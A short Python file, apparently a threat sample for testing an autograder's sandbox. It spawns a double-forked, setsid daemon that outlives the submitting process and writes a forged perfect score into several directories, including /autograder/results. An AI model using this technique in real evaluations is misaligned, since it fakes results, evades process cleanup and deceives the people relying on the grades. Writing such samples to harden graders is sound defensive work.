# Threat: a double-forked, setsid daemon that outlives the student process and later overwrites results.
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3)
        for folder in ("/tmp", os.getcwd(), "..", "/autograder/results"):
            try:
                with open(os.path.join(folder, "pwned-results.json"), "w") as stream:
                    stream.write('{"score": 100}')
            except OSError:
                pass
        os.execv("/bin/sleep", ["sleep", "63.1415"])
    os._exit(0)
time.sleep(0.5)
print("daemon started")
